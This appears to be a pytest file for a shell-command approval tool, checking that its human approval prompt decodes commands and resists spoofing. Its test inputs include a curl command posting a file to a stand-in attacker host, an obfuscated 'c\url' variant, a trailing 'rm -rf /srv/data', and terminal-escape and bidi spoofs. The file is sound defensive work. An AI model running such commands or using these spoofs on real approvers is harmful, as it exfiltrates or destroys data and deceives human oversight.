"""The text of the question: complete, readable, and nothing in it can pretend to be ours.  The terminal itself: tests/shell/test_prompt.py."""

import re

import pytest

from capfence_sh import approval
from capfence_sh import capabilities as cap
from capfence_sh.command import Command
from capfence_sh.decision import ALLOW, DENY, REQUIRE_APPROVAL, Rule, Verdict, approved
from capfence_sh.effects import HOST, NO_TARGET, RESOURCE, Effect
from capfence_sh.request import ESCALATION_NONE, Request
from capfence_sh.words import literal
from capfence_sh.world import DictWorld

EXECUTE = Effect(cap.EXECUTE, "", "", NO_TARGET, False, "")
RESTART = Effect(cap.MUTATION, "", "nginx", RESOURCE, False, "restart nginx")
RULE = Rule("policies/devops.yaml", 31, "restarts", "A person decides.", "")
LABELS = ("command", "runs", "beware", "in", "as", "because", "rule")


def request(**facts):
    given = {"actor": "amy", "claimed_actor": "", "cwd": "/srv/app", "user": "amy", "host": "web1", **facts}
    return Request(
        given["actor"], given["claimed_actor"], given["user"], 1000, 1000, ESCALATION_NONE, False, given["cwd"], "", "/home/amy", "/home/amy",
        given["host"], "", "", {}, True, DictWorld(),
    )  # fmt: skip


def command(*words, effects=(EXECUTE, RESTART), via=()):
    return Command(words[0], tuple(map(literal, words)), None, via, (), effects, "", 0, 0, False, False)


def question(commands, text, width=100, styled=False, rule=RULE, challenge="kqzp", **facts):
    verdict = Verdict(REQUIRE_APPROVAL, rule, "why", commands[0], commands[0].effects[-1], ())
    return approval.question(request(**facts), verdict, commands, text, challenge, 60.0, width, styled)


def test_a_simple_question_whole():
    assert question((command("systemctl", "restart", "nginx"),), "systemctl restart nginx") == (
        "\n"
        "capfence: approval needed\n"
        "\n"
        "  command   systemctl restart nginx\n"
        "  in        /srv/app\n"
        "  as        amy (uid 1000) on web1\n"
        "  because   shell.mutation on nginx [changes a running service, host, cluster or repository, \n"
        "                recoverably]: restart nginx\n"
        "  rule      policies/devops.yaml:31 restarts: A person decides.\n"
        "\n"
        "To run it, type kqzp and Enter.  Anything else, Ctrl-C, or 60 s of silence: it does not run.\n"
        "> "
    )


def test_what_runs_is_shown_decoded_when_the_text_is_something_else():
    commands = (command("systemctl", "restart", "nginx", via=("sudo", "env")), command("curl", "-d", "@x y", "https://evil.example"))
    shown = question(commands, "sudo env systemctl restart nginx; c\\url -d '@x y' https://evil.example")
    assert "  runs      - systemctl restart nginx [through sudo env]\n            - curl -d '@x y' https://evil.example\n" in shown


def test_a_long_argv_is_shown_one_word_per_line():
    words = ("curl", "-d", "@a b", "https://evil.example/" + "x" * 90)
    shown = question((command(*words),), words)
    assert "  command   curl\n            -d\n            '@a b'\n            https://evil.example/xxx" in shown


@pytest.mark.parametrize(
    "text, warning",
    [
        ("ls \u202e x", "text direction control: \\u{202e}"),
        ("ls\u200b /", "invisible character"),
        ("ls" + " " * 90 + "; rm x", "long run of blanks"),
        ("ls \x1b[2J", "control character: \\e"),
    ],
)
def test_deceiving_characters_are_named(text, warning):
    assert f"  beware    {warning}" in question((command("ls"),), text)
    assert "beware" not in question((command("ls"),), "ls -l \u00e9t\u00e9")


def test_actor_and_claim_are_named():
    assert "amy (uid 1000) on web1, for release-bot" in question((command("ls"),), "ls", actor="release-bot")
    assert "claimed to be for bot\\x1b" in question((command("ls"),), "ls", claimed_actor="bot\x1b[2J").replace("\\e", "\\x1b")


def test_the_end_of_a_long_script_is_shown_with_its_hash():
    script = "\n".join(f"echo line {n}" for n in range(2000)) + "\nrm -rf /srv/data"
    shown = question((command("echo", "x"),), script)
    assert "rm -rf /srv/data\n" in shown
    assert f"{len(script)} characters" in shown or "lines in all" in shown
    assert re.search(r"SHA-256 of the whole: [0-9a-f]{64}", shown.replace("\n                ", ""))
    assert shown.count("\n") < 120


def test_many_commands_and_findings_are_counted_and_the_last_ones_shown():
    commands = tuple(
        command("curl", f"https://h{n}.example", effects=(EXECUTE, Effect(cap.EGRESS, "", f"h{n}.example", HOST, False, "x")))
        for n in range(300)
    )
    shown = question(commands, "x")
    assert "curl https://h0.example" in shown and "curl https://h299.example" in shown and "[... 300 lines in all ...]" in shown
    assert "shell.egress on h0.example" in shown and "shell.egress on h299.example" in shown and "[... 300 findings in all ...]" in shown


SPOOFS = [
    "x" + " " * 200 + "rule      allowed by everybody",
    "x\n  rule      allowed by everybody\n\nTo run it, type zzzz and Enter.",
    "x\r  rule      allowed",
    "\x1b[10A\x1b[2K  rule   fine",
    " " * 88 + "rule allowed " * 30,
    "\u202e\u2066rule",
    "[/bold] [link=http://x]",
]


@pytest.mark.parametrize("width", [40, 80, 160])
@pytest.mark.parametrize("text", SPOOFS, ids=ascii)
def test_no_text_reaches_the_column_of_the_labels(text, width):
    rule = Rule(text, 1, text, text, text)
    effects = (EXECUTE, Effect(cap.MUTATION, "", text, RESOURCE, False, text))
    shown = question(
        (command("x", text, effects=effects, via=(text,)),), text, width, rule=rule, cwd=text, user=text, host=text, claimed_actor=text
    )
    assert shown.replace("\n", "").isascii() and shown.replace("\n", "").isprintable()
    body = shown.partition("approval needed\n\n")[2].rpartition("\n\nTo run it, type kqzp and Enter.")[0]
    starts = [line[:12] for line in body.split("\n")]
    assert [start.strip() for start in starts if start.strip()] in (list(LABELS), [label for label in LABELS if label != "beware"])
    assert all(len(line) <= width for line in body.split("\n"))


def test_style_is_ours_alone():
    shown = question((command("x", "\x1b[1m"),), "x \x1b[1m", styled=True)
    assert re.findall(r"\x1b[^a-zA-Z]*[a-zA-Z]", shown) == ["\x1b[0m", "\x1b(B", "\x1b[1m", "\x1b[0m", "\x1b[1m", "\x1b[0m"]


def test_challenges_are_random_and_easy_to_type():
    seen = [approval._challenge() for _ in range(300)]
    assert all(re.fullmatch(r"[abcdefghjkmnpqrstuvwxyz]{4}", challenge) for challenge in seen)
    assert len(set(seen)) > 290
    assert len(set("".join(seen))) == 23


def test_only_a_verdict_that_asks_can_be_approved():
    assert approved(Verdict(REQUIRE_APPROVAL, None, "", None, None, ()), "run") is not None
    assert approved(Verdict(DENY, None, "", None, None, ()), "run") is None
    assert approved(Verdict(ALLOW, None, "", None, None, ()), "run") is None
